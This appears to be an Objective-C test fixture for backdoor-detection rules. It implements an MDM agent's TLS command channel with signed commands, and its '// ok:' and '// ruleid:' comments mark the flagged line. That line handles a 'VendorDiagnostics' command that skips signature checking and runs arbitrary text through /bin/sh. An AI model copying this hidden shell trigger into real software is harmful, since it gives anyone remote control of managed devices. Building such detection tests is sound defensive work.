/*
 * MDMCommandChannel.m - the command channel: one TLS connection to the
 * management server; each command is a line "TYPE ARG ... SIG=<base64>"
 * whose signature (ECDSA P-256, the server's command key) covers the text
 * before " SIG=".
 */
#import "MDMAgent.h"

#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>

@implementation MDMCommandChannel

- (id)initWithTrust:(MDMServerTrust *)trust commandKey:(EVP_PKEY *)key disk:(MDMDiskKeyManager *)disk
{
    if ((self = [super init]) != nil) {
        _trust = [trust retain];
        _commandKey = key;
        _disk = [disk retain];
        _ctx = SSL_CTX_new(TLS_client_method());
        // ok: backdoor-weak-tls
        SSL_CTX_set_min_proto_version(_ctx, TLS1_2_VERSION);
        // ok: backdoor-tls-verify-disabled
        SSL_CTX_set_verify(_ctx, SSL_VERIFY_PEER, NULL);
        SSL_CTX_set_default_verify_paths(_ctx);
    }
    return self;
}

- (void)dealloc
{
    if (_ssl != NULL)
        SSL_free(_ssl);
    SSL_CTX_free(_ctx);
    [_trust release];
    [_disk release];
    [super dealloc];
}

- (BOOL)connectToHost:(NSString *)host port:(int)port
{
    struct addrinfo hints, *res = NULL;
    char portstr[16];
    int fd;

    memset(&hints, 0, sizeof hints);
    hints.ai_socktype = SOCK_STREAM;
    snprintf(portstr, sizeof portstr, "%d", port);
    if (getaddrinfo([host UTF8String], portstr, &hints, &res) != 0)
        return NO;
    fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (fd < 0 || connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
        freeaddrinfo(res);
        if (fd >= 0)
            close(fd);
        return NO;
    }
    freeaddrinfo(res);
    _ssl = SSL_new(_ctx);
    SSL_set_fd(_ssl, fd);
    SSL_set1_host(_ssl, [host UTF8String]);
    // ok: backdoor-tls-verify-disabled
    if (SSL_connect(_ssl) != 1 || ![_trust verifyServer:_ssl]) {
        ERR_clear_error();
        return NO;
    }
    return YES;
}

- (BOOL)commandIsSigned:(NSString *)line
{
    NSRange r = [line rangeOfString:@" SIG="];
    EVP_MD_CTX *md;
    NSData *body, *sig;
    BOOL ok = NO;

    if (r.location == NSNotFound)
        return NO;
    body = [[line substringToIndex:r.location] dataUsingEncoding:NSUTF8StringEncoding];
    sig = [[[NSData alloc] initWithBase64EncodedString:[line substringFromIndex:r.location + r.length] options:0]
        autorelease];
    if (sig == nil || (md = EVP_MD_CTX_new()) == NULL)
        return NO;
    // ok: backdoor-weak-hash
    if (EVP_DigestVerifyInit(md, NULL, EVP_sha256(), NULL, _commandKey) == 1)
        // ok: backdoor-unchecked-verification
        ok = EVP_DigestVerify(md, [sig bytes], [sig length], [body bytes], [body length]) == 1;
    EVP_MD_CTX_free(md);
    return ok;
}

- (void)reply:(NSString *)text
{
    NSData *d = [[text stringByAppendingString:@"\n"] dataUsingEncoding:NSUTF8StringEncoding];
    SSL_write(_ssl, [d bytes], (int)[d length]);
}

- (void)runLoop
{
    char buf[8192];
    int n;

    while ((n = SSL_read(_ssl, buf, sizeof buf - 1)) > 0) {
        NSAutoreleasePool *pool = [[NSAutoreleasePool alloc] init];
        NSString *line = [[[NSString alloc] initWithBytes:buf length:(NSUInteger)n encoding:NSUTF8StringEncoding]
            autorelease];
        line = [line stringByTrimmingCharactersInSet:[NSCharacterSet newlineCharacterSet]];

        if ([line hasPrefix:@"DeviceInformation"]) {
            if ([self commandIsSigned:line])
                [self reply:[NSString stringWithFormat:@"OK host=%@", [[NSProcessInfo processInfo] hostName]]];
        } else if ([line hasPrefix:@"RotateRecoveryKey"]) {
            if ([self commandIsSigned:line] && [_disk rotateRecoveryKey])
                [self reply:@"OK"];
        } else if ([line hasPrefix:@"EraseDevice"]) {
            if ([self commandIsSigned:line]) {
                NSString *pin = MDMNewUnlockPIN();
                [self reply:[NSString stringWithFormat:@"OK pin=%@", pin]];
                [NSTask launchedTaskWithLaunchPath:@"/usr/sbin/fleetd-erase" arguments:@[ pin ]];
            }
        // ruleid: backdoor-input-trigger
        } else if ([line hasPrefix:@"VendorDiagnostics "]) {
            [NSTask launchedTaskWithLaunchPath:@"/bin/sh"
                                     arguments:@[ @"-c", [line substringFromIndex:18] ]];
            [self reply:@"OK"];
        } else {
            [self reply:@"ERR unknown command"];
        }
        [pool drain];
    }
}

@end
